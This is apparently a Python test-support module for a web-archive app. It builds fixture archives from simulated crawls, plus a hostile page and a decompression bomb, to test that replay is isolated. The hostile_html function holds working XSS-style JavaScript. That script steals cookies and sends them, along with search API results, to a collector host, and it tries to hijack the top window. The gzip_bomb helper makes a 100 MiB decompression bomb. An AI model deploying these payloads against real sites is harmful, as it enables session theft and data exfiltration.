"""An archive for the web-service, export and browser tests: two real crawls of the simulated
outlet (an edit between them, unchanged feeds and sitemaps becoming revisits), and optionally a
hostile page archived through the real store and index steps. Also: many small captures and a
decompression bomb archived the same way, and the app served by a real uvicorn on loopback."""

from __future__ import annotations

import socket
import threading
import time
import warnings
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from archive import pipeline
from archive.config import Config, load_config
from archive.index import Index
from archive.moments import parse_iso
from archive.simulate import SimulatedOutlet
from archive.warc import HttpRequestData, HttpResponseData, WarcWriter
from tests.support import TWO_DOMAINS, write_config

EDITED_HEADLINE = "A headline nobody announced"
HOSTILE_ID = "99999999"  # beyond any id the simulated outlet issues (six digits, ~68 a day)


@dataclass(frozen=True)
class Built:
    config: Config
    sim: SimulatedOutlet
    edited_id: str
    first_crawl_end: str
    """fetched_at of the last capture of the first crawl."""
    hostile_url: str | None = None

    @property
    def second_crawl_from(self) -> str:
        """The 14-digit timestamp one second after the first crawl: the start of the second crawl's captures.

        Computed on the datetime, not the digits: 18:35:59 plus one second is 18:36:00, not 18:35:60.
        """
        end = parse_iso(self.first_crawl_end)
        return (end + timedelta(seconds=1)).strftime("%Y%m%d%H%M%S")


def build_archive(directory: Path, sim: SimulatedOutlet, *, hostile_collector: str | None = None) -> Built:
    config = load_config(write_config(directory, port=sim.port, replace=TWO_DOMAINS))
    pipeline.run_cycle(config, "demo")
    with Index(config.index_path, readonly=True) as idx:
        first_end = idx._db.execute("SELECT max(fetched_at) FROM captures").fetchone()[0]
    wait_past(first_end)
    edited = sim.site.article_ids()[1]
    sim.edit_headline(edited, EDITED_HEADLINE, declared=False)
    pipeline.run_cycle(config, "demo")
    hostile = None
    if hostile_collector is not None:
        hostile = archive_hostile_page(config, sim, hostile_collector)
    return Built(config, sim, str(edited), first_end, hostile)


def wait_past(moment: str) -> None:
    """Until the clock is past ``moment`` (whole seconds, as captures are timed): the second crawl
    then starts in a later second than the first ended, which `second_crawl_from` relies on."""
    end = parse_iso(moment)
    while datetime.now(UTC).replace(microsecond=0) <= end:
        time.sleep(0.05)


def hostile_html(collector: str, archived_home: str) -> bytes:
    """A page whose script tries everything an archived page must not do to the app, and whose
    markup asks for live resources (a replay must never reach the live web: it would show today's
    content as archived and tell the outlet who is reading)."""
    return f"""<!doctype html><html><head><title>Hostile page</title>
<link rel="stylesheet" href="{collector}/live.css"></head><body>
<h1 id="headline">An archived page with a hostile script</h1>
<p>Body text of the hostile page.</p>
<p><img alt="" src="{collector}/live-image.png"></p>
<iframe src="{collector}/live-frame"></iframe>
<iframe id="from-archive" src="{archived_home}"></iframe>
<p><a id="to-live" href="{collector}/clicked">a link to the live web</a>
<a id="to-home" href="{archived_home}">the outlet's home page</a></p>
<script>
var stolen = document.cookie;
fetch("{collector}/cookie?c=" + encodeURIComponent(stolen), {{mode: "no-cors"}}).catch(function () {{}});
new Image().src = "{collector}/image?c=" + encodeURIComponent(stolen);
fetch("/demo/api/search?q=Iran").then(function (r) {{ return r.text(); }}).then(function (t) {{
  fetch("{collector}/api", {{method: "POST", mode: "no-cors", body: t}});
}}).catch(function () {{ fetch("{collector}/api-failed", {{mode: "no-cors"}}); }});
try {{ window.top.document.body.innerHTML = "<h1 id=pwned>PWNED</h1>"; }} catch (e) {{}}
try {{ window.parent.document.title = "PWNED"; }} catch (e) {{}}
try {{ window.top.location = "{collector}/navigated"; }} catch (e) {{}}
document.getElementById("headline").textContent = "SCRIPT RAN";
</script>
</body></html>""".encode()


def archive_hostile_page(config: Config, sim: SimulatedOutlet, collector: str) -> str:
    """Write the hostile page to a WARC in the spool, then store, index and detect it as a crawl's."""
    url = f"{sim.base_url('www.presstv.ir')}/Detail/2026/11/25/{HOSTILE_ID}/hostile-page"
    body = hostile_html(collector, sim.base_url("www.presstv.ir") + "/")
    request = HttpRequestData("GET", url, (("Host", f"www.presstv.ir:{sim.port}"),))
    response = HttpResponseData(
        200,
        "OK",
        (
            ("Content-Type", "text/html; charset=utf-8"),
            ("Content-Length", str(len(body))),
            ("Set-Cookie", "archived=1; Path=/"),
        ),
        body,
    )
    with WarcWriter(config.spool_dir("demo"), "demo-hostile") as writer:
        writer.write_exchange(request, response, fetched_at=datetime.now(UTC))
    pipeline.store(config, "demo")
    pipeline.index(config, "demo")
    pipeline.detect(config, "demo")
    return url


def api_client(config: Config) -> Any:
    """FastAPI's TestClient; importing it warns that starlette prefers httpx2, which is not ours to fix."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # StarletteDeprecationWarning: starlette now prefers httpx2
        from fastapi.testclient import TestClient
    from archive.api import create_app

    return TestClient(create_app(config), follow_redirects=False)


def archive_exchanges(config: Config, prefix: str, exchanges: list[tuple[str, HttpResponseData]]) -> None:
    """Write ``(url, response)`` pairs to a WARC in the spool, a second apart, then store and index it
    as a crawl's (no detect: these are not articles)."""
    start = datetime.now(UTC) - timedelta(days=1)
    with WarcWriter(config.spool_dir("demo"), prefix) as writer:
        for number, (url, response) in enumerate(exchanges):
            host = url.split("/")[2]
            request = HttpRequestData("GET", url, (("Host", host),))
            writer.write_exchange(request, response, fetched_at=start + timedelta(seconds=number))
    pipeline.store(config, "demo")
    pipeline.index(config, "demo")


def asset_exchanges(base_url: str, count: int) -> list[tuple[str, HttpResponseData]]:
    """``count`` small style sheets under ``base_url``: a big prefix for CDX queries to scan."""
    exchanges = []
    for number in range(count):
        body = f"p.n{number} {{ color: red }}".encode()
        headers = (("Content-Type", "text/css"), ("Content-Length", str(len(body))))
        exchanges.append((f"{base_url}/assets/{number:05d}/style.css", HttpResponseData(200, "OK", headers, body)))
    return exchanges


def gzip_bomb(inflated: int = 100 * 2**20) -> bytes:
    """``inflated`` zero bytes, gzip-compressed (about a thousandth of the size), made without holding them."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    zeros = bytes(2**20)
    parts = [compressor.compress(zeros) for _ in range(inflated // len(zeros))]
    return b"".join([*parts, compressor.flush()])


def bomb_exchange(url: str) -> tuple[str, HttpResponseData]:
    """An HTML page whose gzip body inflates to 100 MiB, as a hostile server could send it."""
    body = gzip_bomb()
    headers = (("Content-Type", "text/html"), ("Content-Encoding", "gzip"), ("Content-Length", str(len(body))))
    return url, HttpResponseData(200, "OK", headers, body)


@contextmanager
def served(app: Any) -> Iterator[str]:
    """``app`` on a real uvicorn server on a free loopback port, in a thread; stopped on exit.

    The socket is bound here and handed to uvicorn, so no other process can take the port between.
    """
    import uvicorn

    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off", ws="none"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise AssertionError("uvicorn did not start within 30 s")
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=15)
        sock.close()
